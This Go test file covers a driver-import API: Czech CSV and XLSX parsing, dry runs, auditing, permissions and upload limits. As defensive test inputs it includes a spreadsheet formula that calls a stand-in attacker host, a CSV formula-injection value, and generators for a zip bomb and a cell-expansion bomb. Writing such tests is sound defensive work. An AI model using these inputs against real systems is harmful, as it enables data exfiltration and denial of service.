package api_test

import (
	"archive/zip"
	"bytes"
	"context"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/charmap"

	"github.com/konvoj/konvoj/internal/auth"
	"github.com/konvoj/konvoj/web/app"
	"github.com/konvoj/konvoj/web/webtest"
)

// importResult is the answer of POST /imports/drivers and GET /imports/{id}.
type importResult struct {
	ID        string `json:"id"`
	Status    string `json:"status"`
	DryRun    bool   `json:"dry_run"`
	Rows      int    `json:"rows"`
	Created   int    `json:"created"`
	Updated   int    `json:"updated"`
	Unchanged int    `json:"unchanged"`
	Progress  int    `json:"progress"`
	Errors    []struct {
		Row     int    `json:"row"`
		Field   string `json:"field"`
		Message string `json:"message"`
	} `json:"errors"`
	Columns []struct {
		Header string `json:"header"`
		Field  string `json:"field"`
	} `json:"columns"`
	Unknown []string    `json:"unknown_columns"`
	Mode    string      `json:"mode"`
	Changes []rowChange `json:"changes"`
}

// rowChange is one of an import's changes.
type rowChange struct {
	Row      int     `json:"row"`
	Action   string  `json:"action"`
	DriverID *string `json:"driver_id"`
	Fields   map[string]struct {
		Old any `json:"old"`
		New any `json:"new"`
	} `json:"fields"`
}

// sendImport posts a file (and optional extra parts) to the import.
func sendImport(t testing.TB, c *webtest.Caller, name string, data []byte, parts ...part) *webtest.Response {
	t.Helper()
	all := append([]part{filePart(name, data)}, parts...)
	body, h := multipartBody(t, all...)
	return c.Send(http.MethodPost, "/api/v0/imports/drivers", body, h)
}

// awaitImport polls the import until it is done (the job of a large file).
func awaitImport(t testing.TB, c *webtest.Caller, r *webtest.Response) importResult {
	t.Helper()
	im, _ := pollImport(t, c, r)
	return im
}

var czechHeader = []string{"Osobní číslo", "Jméno", "Příjmení", "E-mail", "Telefon", "Státní občanství", "Stav",
	"Datum nástupu", "Smlouva na dobu neurčitou", "Řidičský průkaz – číslo", "Řidičský průkaz – platnost do", "Poznámka"}

var firstNames = []string{"Jiří", "Petr", "Žofie", "Tomáš", "Řehoř", "Šárka", "Lukáš", "Eliška", "Ondřej", "Věra"}
var lastNames = []string{"Dvořák", "Černý", "Procházka", "Kučera", "Veselý", "Horák", "Němec", "Růžička", "Beneš", "Sedláček"}

// czechRows makes n drivers as Czech Excel holds them: dates 1. 3. 2024,
// words "Aktivní"/"Ano", a licence number and validity, a note column the
// import does not know.
func czechRows(n int) [][]string {
	rows := make([][]string, n)
	for i := range rows {
		rows[i] = []string{"", firstNames[i%10], lastNames[(i/10)%10] + fmt.Sprint(i), fmt.Sprintf("ridic%d@dopravce.cz", i),
			fmt.Sprintf("+420 777 %06d", i), []string{"CZ", "SK", "UA", "PL"}[i%4], []string{"Aktivní", "Na dovolené", "Neaktivní"}[i%3],
			fmt.Sprintf("%d. %d. 20%02d", 1+i%28, 1+i%12, 10+i%15), []string{"Ano", "Ne"}[i%2],
			fmt.Sprintf("EL%07d", i), fmt.Sprintf("%d.%d.2030", 1+i%28, 1+i%12), "poznámka č. " + fmt.Sprint(i)}
	}
	return rows
}

// czechCSV writes the rows as Czech Excel saves "CSV (oddělený středníkem)":
// semicolons, Windows-1250.
func czechCSV(t testing.TB, header []string, rows [][]string) []byte {
	t.Helper()
	var sb strings.Builder
	sb.WriteString(strings.Join(header, ";") + "\r\n")
	for _, r := range rows {
		sb.WriteString(strings.Join(r, ";") + "\r\n")
	}
	out, err := charmap.Windows1250.NewEncoder().Bytes([]byte(sb.String()))
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// A realistic file of 2,000 drivers with Czech headers in Windows-1250 and a
// few bad rows: the dry run and the real run report the same counts and
// the errors by row and column, and change nothing; once fixed it creates
// the 2,000 drivers with their licences, audits them, and importing it
// again changes nothing.
func TestImportCzechFile(t *testing.T) {
	t.Parallel()
	env := webtest.New(t, webtest.WithApp(func(o *app.Options) { o.Jobs = true }))
	company := env.Company("Dopravce s.r.o.", "enterprise")
	hr := env.As(company, auth.RoleHRManager)
	rows := czechRows(2000)
	bad := czechRows(2000)
	bad[10][3] = "neni-email"    // row 12
	bad[500][6] = "Létající"     // row 502
	bad[1500][7] = "31. 2. 2024" // row 1502
	bad[1999][3] = bad[1998][3]  // rows 2000 and 2001: one e-mail
	bad[700][1] = ""             // row 702: first name missing
	badFile := czechCSV(t, czechHeader, bad)
	counts := func() string {
		var s string
		if err := env.DB.QueryRow(context.Background(), `SELECT (SELECT count(*) FROM drivers WHERE company_id = $1) || '/' ||
			(SELECT count(*) FROM driver_documents WHERE company_id = $1) || '/' ||
			(SELECT count(*) FROM audit_logs WHERE company_id = $1)`, company).Scan(&s); err != nil {
			t.Fatal(err)
		}
		return s
	}
	before := counts()

	dry := awaitImport(t, hr, sendImport(t, hr, "ridici.csv", badFile).Expect(http.StatusAccepted))
	if !dry.DryRun || dry.Rows != 2000 || dry.Created != 2000 || dry.Updated != 0 {
		t.Fatalf("dry run %+v", dry)
	}
	got := map[string]bool{}
	for _, e := range dry.Errors {
		got[fmt.Sprintf("%d %s", e.Row, e.Field)] = true
		if e.Message == "" {
			t.Errorf("error without message: %+v", e)
		}
	}
	for _, want := range []string{"12 email", "502 status", "1502 hire_date", "2000 email", "2001 email", "702 first_name"} {
		if !got[want] {
			t.Errorf("no error %q in %+v", want, dry.Errors)
		}
	}
	if len(dry.Errors) != 6 {
		t.Errorf("%d errors, want 6: %+v", len(dry.Errors), dry.Errors)
	}
	if len(dry.Unknown) != 1 || dry.Unknown[0] != "Poznámka" {
		t.Errorf("unknown columns %v", dry.Unknown)
	}

	real := awaitImport(t, hr, sendImport(t, hr, "ridici.csv", badFile, field("dry_run", "false")).Expect(http.StatusAccepted))
	if real.DryRun || len(real.Errors) != 6 {
		t.Fatalf("real run with errors %+v", real)
	}
	if after := counts(); after != before || before != "0/0/0" {
		t.Fatalf("an import with errors changed data: %s, before %s", after, before)
	}

	good := czechCSV(t, czechHeader, rows)
	done := awaitImport(t, hr, sendImport(t, hr, "ridici.csv", good, field("dry_run", "false")).Expect(http.StatusAccepted))
	if done.Created != 2000 || done.Updated != 0 || done.Unchanged != 0 || len(done.Errors) != 0 || done.Progress != 100 {
		t.Fatalf("import %+v", done)
	}
	var n int
	var first, last, status, licence, until string
	var indefinite bool
	err := env.DB.QueryRow(context.Background(), `SELECT count(*) FROM drivers WHERE company_id = $1`, company).Scan(&n)
	if err != nil || n != 2000 {
		t.Fatalf("%d drivers %v", n, err)
	}
	err = env.DB.QueryRow(context.Background(), `SELECT d.first_name, d.last_name, d.status, d.contract_indefinite, dd.number, dd.valid_until::text
		FROM drivers d JOIN driver_documents dd ON dd.driver_id = d.id AND dd.type = 'drivers_license'
		WHERE d.company_id = $1 AND d.email = 'ridic4@dopravce.cz'`, company).Scan(&first, &last, &status, &indefinite, &licence, &until)
	if err != nil || first != "Řehoř" || last != "Dvořák4" || status != "on_leave" || !indefinite || licence != "EL0000004" || until != "2030-05-05" {
		t.Errorf("driver 4: %s %s %s %v %s %s %v", first, last, status, indefinite, licence, until, err)
	}
	var audited int
	var completed string
	err = env.DB.QueryRow(context.Background(), `SELECT
			(SELECT count(*) FROM audit_logs WHERE company_id = $1 AND entity_type = 'driver' AND action = 'created'),
			(SELECT new_values::text FROM audit_logs WHERE company_id = $1 AND action = 'import.completed' AND new_values->>'import_id' = $2)`,
		company, done.ID).Scan(&audited, &completed)
	if err != nil || audited != 2000 || !strings.Contains(completed, `"created": 2000`) {
		t.Errorf("audit: %d created rows, import.completed %s %v", audited, completed, err)
	}

	again := awaitImport(t, hr, sendImport(t, hr, "ridici.csv", good, field("dry_run", "false")).Expect(http.StatusAccepted))
	if again.Unchanged != 2000 || again.Created != 0 || again.Updated != 0 || len(again.Errors) != 0 {
		t.Fatalf("re-import %+v", again)
	}
}

// Small files run within the request; rows update drivers by number or
// e-mail; the column matching can be changed; every bad input is refused
// with a clear error.
func TestImportInputs(t *testing.T) {
	t.Parallel()
	env := webtest.New(t)
	company := env.Company("Malý dopravce", "free")
	hr := env.As(company, auth.RoleHRManager)
	csvOf := func(lines ...string) []byte { return []byte(strings.Join(lines, "\n") + "\n") }

	r := sendImport(t, hr, "a.csv", csvOf("\ufefffirst_name,last_name,email,registration_address",
		"Jan,Novák,jan@example.test,=1+1", "Eva,Malá,eva@example.test,"), field("dry_run", "false")).Expect(http.StatusCreated)
	var im importResult
	r.Decode(&im)
	if im.Status != "done" || im.Created != 2 || len(im.Errors) != 0 {
		t.Fatalf("import %+v", im)
	}
	var phone string
	if err := env.DB.QueryRow(context.Background(), `SELECT registration_address FROM drivers WHERE email = 'jan@example.test'`).Scan(&phone); err != nil || phone != "=1+1" {
		t.Errorf("registration address %q %v", phone, err)
	}
	// By e-mail, and by number with a new e-mail.
	var number string
	_ = env.DB.QueryRow(context.Background(), `SELECT internal_number FROM drivers WHERE email = 'eva@example.test'`).Scan(&number)
	sendImport(t, hr, "b.csv", csvOf("Osobní číslo;E-mail;Příjmení", number+";eva.mala@example.test;Malá-Nová",
		";jan@example.test;Novák"), field("dry_run", "false")).Expect(http.StatusCreated).Decode(&im)
	if im.Updated != 1 || im.Unchanged != 1 || im.Created != 0 {
		t.Fatalf("update %+v", im)
	}
	// The user's matching: "Příjmení2" is the last name, "Telefon" ignored.
	sendImport(t, hr, "c.csv", csvOf("E-mail;Příjmení2;Telefon", "jan@example.test;Novotný;123"),
		field("mapping", `{"Příjmení2": "last_name", "Telefon": ""}`)).Expect(http.StatusCreated).Decode(&im)
	if im.Updated != 1 || len(im.Unknown) != 0 || im.Columns[1].Field != "last_name" || im.Columns[2].Field != "" {
		t.Fatalf("mapping %+v", im)
	}

	// XLSX: values are read (a formula's stored result, never evaluated),
	// dates from date cells.
	x := excelize.NewFile()
	_ = x.SetSheetRow("Sheet1", "A1", &[]any{"First name", "Last name", "E-mail", "Hire date", "Work location"})
	_ = x.SetSheetRow("Sheet1", "A2", &[]any{"Karel", "Xlsx", "karel@example.test", time.Date(2024, 3, 1, 0, 0, 0, 0, time.UTC)})
	_ = x.SetCellFormula("Sheet1", "E2", `WEBSERVICE("http://attacker.example/")`)
	var xb bytes.Buffer
	_ = x.Write(&xb)
	sendImport(t, hr, "d.xlsx", xb.Bytes(), field("dry_run", "false")).Expect(http.StatusCreated).Decode(&im)
	var hire, loc string
	err := env.DB.QueryRow(context.Background(), `SELECT hire_date::text, coalesce(work_location, '') FROM drivers WHERE email = 'karel@example.test'`).Scan(&hire, &loc)
	if im.Created != 1 || err != nil || hire != "2024-03-01" || loc != "" {
		t.Errorf("xlsx %+v: %s %q %v", im, hire, loc, err)
	}

	for _, bc := range []struct {
		name   string
		data   []byte
		status int
		error  string
		text   string
	}{
		{"empty", nil, 422, "ValidationError", "empty"},
		{"header only", csvOf("first_name,last_name,email"), 422, "ValidationError", "no drivers"},
		{"duplicate columns", csvOf("email,E-mail", "a@example.test,b@example.test"), 422, "ValidationError", "same field"},
		{"too many rows", append(csvOf("first_name,last_name,email"), bytes.Repeat([]byte("A,B,c@example.test\n"), 20001)...), 422, "ValidationError", "20000"},
		{"pdf", []byte("%PDF-1.7\n\x00\x01\x02binary"), 415, "UnsupportedMediaType", "CSV or XLSX"},
		{"zip bomb", zipBomb(t), 413, "PayloadTooLarge", "unpacks"},
		{"50 MiB", bytes.Repeat([]byte("a,b,c\n"), 50<<20/6), 413, "PayloadTooLarge", ""},
	} {
		t.Run(bc.name, func(t *testing.T) {
			body := sendImport(t, hr, "x.csv", bc.data).ExpectError(bc.status, bc.error)
			if !strings.Contains(fmt.Sprint(body), bc.text) {
				t.Errorf("%s: %v", bc.name, body)
			}
		})
	}
	t.Run("one e-mail twice marks both rows", func(t *testing.T) {
		sendImport(t, hr, "e.csv", csvOf("first_name,last_name,email", "A,B,same@example.test", "C,D,other@example.test",
			"E,F,SAME@example.test")).Expect(http.StatusCreated).Decode(&im)
		if len(im.Errors) != 2 || im.Errors[0].Row != 2 || im.Errors[1].Row != 4 || im.Errors[0].Field != "email" {
			t.Errorf("errors %+v", im.Errors)
		}
	})
	t.Run("permissions and tenancy", func(t *testing.T) {
		sendImport(t, env.As(company, auth.RoleAccountant), "a.csv", csvOf("email", "x@example.test")).ExpectError(http.StatusForbidden, "Forbidden")
		other := env.As(env.Company("Jiný", "free"), auth.RoleAdmin)
		other.Get("/api/v0/imports/"+im.ID).ExpectError(http.StatusForbidden, "AccessDenied")
		hr.Get("/api/v0/imports/"+uuid.NewString()).ExpectError(http.StatusNotFound, "NotFound")
		hr.Get("/api/v0/imports/" + im.ID).Expect(http.StatusOK)
	})
}

// zipBomb is a small XLSX-shaped zip whose sheet unpacks to 300 MiB.
func zipBomb(t testing.TB) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, err := zw.Create("xl/worksheets/sheet1.xml")
	if err != nil {
		t.Fatal(err)
	}
	chunk := bytes.Repeat([]byte(" "), 1<<20)
	for range 300 {
		_, _ = w.Write(chunk)
	}
	_ = zw.Close()
	return buf.Bytes()
}

// A company's custom document type has its columns in the import, matched
// by code or by its name in any language (a retired type's are not), and in
// the template; the import's new drivers get a record of it.
func TestImportCustomDocumentType(t *testing.T) {
	t.Parallel()
	env := webtest.New(t)
	company := env.Company("Vlastní doklady s.r.o.", "free")
	hr := env.As(company, auth.RoleHRManager)
	admin := env.As(company, auth.RoleAdmin)
	admin.Post(typesPath(company), map[string]any{"code": "adr_training", "names": map[string]any{"en": "ADR training", "cs": "Školení ADR"}}).
		Expect(http.StatusCreated)
	admin.Post(typesPath(company), map[string]any{"code": "old_pass", "names": map[string]any{"en": "Old pass"}}).Expect(http.StatusCreated)
	admin.Put(typesPath(company)+"/old_pass", map[string]any{"retired": true}).Expect(http.StatusOK)

	file := []byte("first_name;last_name;email;tags;adr_training_number;Školení ADR – platnost do;Old pass valid until\n" +
		"Jan;Novák;jan@vlastni.test;adr, Noc;ADR-1;1. 6. 2027;2027-01-01\n")
	var im importResult
	sendImport(t, hr, "a.csv", file, field("dry_run", "false")).Expect(http.StatusCreated).Decode(&im)
	if im.Created != 1 || len(im.Errors) != 0 || len(im.Unknown) != 1 || im.Unknown[0] != "Old pass valid until" ||
		im.Columns[4].Field != "adr_training_number" || im.Columns[5].Field != "adr_training_valid_until" {
		t.Fatalf("import %+v", im)
	}
	document := func() (number, until, tags string, docs int) {
		t.Helper()
		err := env.DB.QueryRow(context.Background(), `SELECT dd.number, dd.valid_until::text, d.tags::text,
				(SELECT count(*) FROM driver_documents x WHERE x.driver_id = d.id)
			FROM drivers d JOIN driver_documents dd ON dd.driver_id = d.id AND dd.type = 'adr_training'
			WHERE d.company_id = $1 AND d.email = 'jan@vlastni.test'`, company).Scan(&number, &until, &tags, &docs)
		if err != nil {
			t.Fatal(err)
		}
		return
	}
	if number, until, tags, docs := document(); number != "ADR-1" || until != "2027-06-01" || tags != "{adr,noc}" || docs != 16 {
		t.Errorf("custom document %q %q, tags %s, %d records", number, until, tags, docs)
	}
	sendImport(t, hr, "a.csv", file, field("dry_run", "false")).Expect(http.StatusCreated).Decode(&im)
	if im.Unchanged != 1 || im.Updated != 0 {
		t.Errorf("re-import %+v", im)
	}
	// An update: the changed field and the document are audited, the
	// document's new validity logged.
	changed := []byte("email;last_name;ADR training number;ADR training valid until\njan@vlastni.test;Nováček;ADR-2;2028-01-31\n")
	sendImport(t, hr, "c.csv", changed, field("dry_run", "false")).Expect(http.StatusCreated).Decode(&im)
	if im.Updated != 1 || len(im.Errors) != 0 {
		t.Fatalf("update %+v", im)
	}
	if number, until, tags, _ := document(); number != "ADR-2" || until != "2028-01-31" || tags != "{adr,noc}" {
		t.Errorf("updated document %q %q, tags %s", number, until, tags)
	}
	var updated, imported string
	var logged int
	err := env.DB.QueryRow(context.Background(), `SELECT
			(SELECT old_values::text || ' ' || new_values::text FROM audit_logs WHERE company_id = $1 AND entity_type = 'driver' AND action = 'updated'),
			(SELECT new_values::text FROM audit_logs WHERE company_id = $1 AND action = 'document.imported' AND new_values->>'number' = 'ADR-2'),
			(SELECT count(*) FROM document_validity_changes v JOIN driver_documents dd ON dd.id = v.document_id
				WHERE v.company_id = $1 AND dd.type = 'adr_training')`, company).Scan(&updated, &imported, &logged)
	if err != nil || updated != `{"last_name": "Novák"} {"last_name": "Nováček"}` ||
		imported != `{"number": "ADR-2", "valid_until": "2028-01-31", "document_type": "adr_training"}` || logged != 2 {
		t.Errorf("audit %q, %q, %d validity changes: %v", updated, imported, logged, err)
	}
	bad := []byte("email;ADR training valid until\njan@vlastni.test;tomorrow\n")
	sendImport(t, hr, "b.csv", bad).Expect(http.StatusCreated).Decode(&im)
	if len(im.Errors) != 1 || im.Errors[0].Row != 2 || im.Errors[0].Field != "adr_training_valid_until" {
		t.Errorf("errors %+v", im.Errors)
	}

	for lang, want := range map[string][]string{"en": {"ADR training number", "ADR training valid until"}, "cs": {"Školení ADR – číslo", "Školení ADR – platnost do"}} {
		body := hr.Send(http.MethodGet, "/api/v0/imports/drivers/template?format=csv", nil, http.Header{"Accept-Language": {lang}}).
			Expect(http.StatusOK).Body
		header := readCSV(t, body)[0]
		for _, h := range want {
			if !slices.Contains(header, h) {
				t.Errorf("%s template header lacks %q: %v", lang, h, header)
			}
		}
		if slices.ContainsFunc(header, func(h string) bool { return strings.Contains(h, "Old pass") }) {
			t.Errorf("%s template has the retired type: %v", lang, header)
		}
	}
}

// cellBomb is a small XLSX (about 150 KiB) whose one data cell holds 150
// MiB of one character: as a shared string (sharedStrings.xml), as Excel
// and most libraries write text, or as an inline string in the sheet.
func cellBomb(t testing.TB, shared bool) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	part := func(name, text string) io.Writer {
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		_, _ = io.WriteString(w, text)
		return w
	}
	const head = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n"
	const main = `http://schemas.openxmlformats.org/spreadsheetml/2006/main`
	const rel = `http://schemas.openxmlformats.org/officeDocument/2006/relationships`
	part("[Content_Types].xml", head+`<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">`+
		`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>`+
		`<Default Extension="xml" ContentType="application/xml"/>`+
		`<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>`+
		`<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>`+
		`<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>`+
		`</Types>`)
	part("_rels/.rels", head+`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`+
		`<Relationship Id="rId1" Type="`+rel+`/officeDocument" Target="xl/workbook.xml"/></Relationships>`)
	part("xl/workbook.xml", head+`<workbook xmlns="`+main+`" xmlns:r="`+rel+`"><sheets>`+
		`<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`)
	part("xl/_rels/workbook.xml.rels", head+`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`+
		`<Relationship Id="rId1" Type="`+rel+`/worksheet" Target="worksheets/sheet1.xml"/>`+
		`<Relationship Id="rId2" Type="`+rel+`/sharedStrings" Target="sharedStrings.xml"/></Relationships>`)
	chunk := bytes.Repeat([]byte("x"), 1<<20)
	bomb := func(w io.Writer) {
		for range 150 {
			_, _ = w.Write(chunk)
		}
	}
	header := `<row r="1"><c r="A1" t="inlineStr"><is><t>first_name</t></is></c><c r="B1" t="inlineStr"><is><t>last_name</t></is></c>` +
		`<c r="C1" t="inlineStr"><is><t>email</t></is></c><c r="D1" t="inlineStr"><is><t>work_location</t></is></c></row>`
	data := `<row r="2"><c r="A2" t="inlineStr"><is><t>Jan</t></is></c><c r="B2" t="inlineStr"><is><t>Novák</t></is></c>` +
		`<c r="C2" t="inlineStr"><is><t>jan@example.test</t></is></c>`
	if shared {
		w := part("xl/sharedStrings.xml", head+`<sst xmlns="`+main+`" count="1" uniqueCount="1"><si><t>`)
		bomb(w)
		_, _ = io.WriteString(w, `</t></si></sst>`)
		part("xl/worksheets/sheet1.xml", head+`<worksheet xmlns="`+main+`"><sheetData>`+header+data+
			`<c r="D2" t="s"><v>0</v></c></row></sheetData></worksheet>`)
	} else {
		part("xl/sharedStrings.xml", head+`<sst xmlns="`+main+`" count="0" uniqueCount="0"></sst>`)
		w := part("xl/worksheets/sheet1.xml", head+`<worksheet xmlns="`+main+`"><sheetData>`+header+data+
			`<c r="D2" t="inlineStr"><is><t>`)
		bomb(w)
		_, _ = io.WriteString(w, `</t></is></c></row></sheetData></worksheet>`)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// A 150 KiB spreadsheet whose one cell unpacks to 150 MiB, sent by an HR
// manager of a free company as a dry run: refused as 422 (a cell holds
// more than 5,000 characters) while the sheet is streamed, with the
// process's heap growing by far less than the cell (sampled through the
// real HTTP server; the cell materialised cost about 1 GB) and nothing
// written to the temporary folder. Not parallel: it measures the
// process's memory.
func TestImportCellBombCostsNoMemory(t *testing.T) {
	tmp := t.TempDir()
	t.Setenv("TMPDIR", tmp)
	env := webtest.New(t)
	hr := env.As(env.Company("Malý dopravce", "free"), auth.RoleHRManager)
	for _, shared := range []bool{true, false} {
		kind := map[bool]string{true: "shared string", false: "inline string"}[shared]
		data := cellBomb(t, shared)
		if len(data) > 1<<20 {
			t.Fatalf("%s: the bomb is %d bytes", kind, len(data))
		}
		var tempPeak int64
		stop := make(chan struct{})
		var wg sync.WaitGroup
		wg.Go(func() {
			for {
				var size int64
				_ = filepath.WalkDir(tmp, func(_ string, d fs.DirEntry, err error) error {
					if err == nil && !d.IsDir() {
						if info, err := d.Info(); err == nil {
							size += info.Size()
						}
					}
					return nil
				})
				tempPeak = max(tempPeak, size)
				select {
				case <-stop:
					return
				case <-time.After(5 * time.Millisecond):
				}
			}
		})
		var r *webtest.Response
		allocated, peak := memoryOfUpload(t, func() { r = sendImport(t, hr, "bomb.xlsx", data, field("dry_run", "true")) })
		close(stop)
		wg.Wait()
		t.Logf("%s: %d, allocated %d MiB, peak heap growth %d MiB, temporary files %d KiB", kind, r.Status, allocated>>20, peak>>20, tempPeak>>10)
		if r.Status != http.StatusUnprocessableEntity || !strings.Contains(string(r.Body), `"ValidationError"`) ||
			!strings.Contains(string(r.Body), "more than 5000 characters") {
			t.Errorf("%s: answer %d %.300s; want 422, a cell longer than 5000 characters", kind, r.Status, r.Body)
		}
		if peak > 64<<20 {
			t.Errorf("%s: the heap grew by %d MiB for a 150 KiB file", kind, peak>>20)
		}
		if allocated > 256<<20 {
			t.Errorf("%s: the request allocated %d MiB for a 150 KiB file", kind, allocated>>20)
		}
		if tempPeak > 1<<20 {
			t.Errorf("%s: the request wrote %d MiB of temporary files", kind, tempPeak>>20)
		}
	}
}

// An upload holds one of its company's two places from its first bytes to
// its answer (what it holds counts from the file's first byte): with two
// uploads of one company still arriving, a third is 409 Conflict at once,
// another company's is not, and once they end the company imports again.
func TestImportsOfACompanyAreBounded(t *testing.T) {
	t.Parallel()
	env := webtest.New(t)
	hr := env.As(env.Company("Dopravce", "free"), auth.RoleHRManager)
	other := env.As(env.Company("Jiný dopravce", "free"), auth.RoleHRManager)
	file := []byte("first_name,last_name,email\nJan,Novák,jan@example.test\n")
	type held struct {
		pw   *io.PipeWriter
		rest []byte
		done chan int
	}
	// hold sends all but the last bytes of a 19 MiB upload: once the client
	// has sent them, far more than the connection buffers, the server is
	// reading the file, its handler running.
	hold := func() held {
		body, h := multipartBody(t, filePart("big.csv", append(bytes.Clone(file), bytes.Repeat([]byte("\n"), 19<<20)...)))
		b := body.Bytes()
		pr, pw := io.Pipe()
		// Before the server's clean-up, which waits for its requests.
		t.Cleanup(func() { _ = pw.CloseWithError(io.ErrUnexpectedEOF) })
		req, err := http.NewRequest(http.MethodPost, env.Server.URL+"/api/v0/imports/drivers", pr)
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Content-Type", h.Get("Content-Type"))
		req.Header.Set("Authorization", "Bearer "+hr.Token)
		done := make(chan int, 1)
		go func() {
			res, err := env.Server.Client().Do(req)
			if err != nil {
				done <- 0
				return
			}
			_, _ = io.Copy(io.Discard, res.Body)
			res.Body.Close()
			done <- res.StatusCode
		}()
		cut := len(b) - 10
		if _, err := pw.Write(b[:cut]); err != nil {
			t.Fatalf("the held upload was answered early: %v", err)
		}
		return held{pw, b[cut:], done}
	}
	uploads := []held{hold(), hold()}

	body := sendImport(t, hr, "b.csv", file).ExpectError(http.StatusConflict, "Conflict")
	if !strings.Contains(fmt.Sprint(body["message"]), "2 imports of your company") {
		t.Errorf("refusal %v", body)
	}
	sendImport(t, other, "c.csv", file).Expect(http.StatusCreated)

	for _, u := range uploads {
		_, _ = u.pw.Write(u.rest)
		_ = u.pw.Close()
		// The file's blank lines are more cells than a file may hold.
		if status := <-u.done; status != http.StatusRequestEntityTooLarge {
			t.Errorf("a held upload answered %d, want 413", status)
		}
	}
	sendImport(t, hr, "d.csv", file).Expect(http.StatusCreated)
}
